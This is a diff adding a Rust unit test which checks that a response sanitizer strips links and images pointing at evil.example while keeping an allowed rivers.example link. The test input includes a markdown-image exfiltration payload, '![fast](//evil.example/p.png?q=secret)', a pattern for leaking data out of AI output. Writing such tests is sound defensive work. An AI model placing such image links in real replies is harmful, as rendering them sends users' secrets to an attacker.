@@ -383,6 +383,14 @@ mod tests {
             "See https://rivers.example/map or now."
         );
         assert_eq!(written.analysis, "Go to first.");
+        let reply = r#"{"answer": [{"sentence": "They run [far](https://rivers.example/map) and/or ![fast](//evil.example/p.png?q=secret) evil.example/c?q=1 3.5/4.", "sources": [4]}],
+            "analysis": "[open](//evil.example/b)"}"#;
+        let written = ask(&[reply]).0.unwrap();
+        assert_eq!(
+            written.sentences[0].0,
+            "They run [far](https://rivers.example/map) and/or 3.5/4."
+        );
+        assert_eq!(written.analysis, "");
     }
 
     #[test]
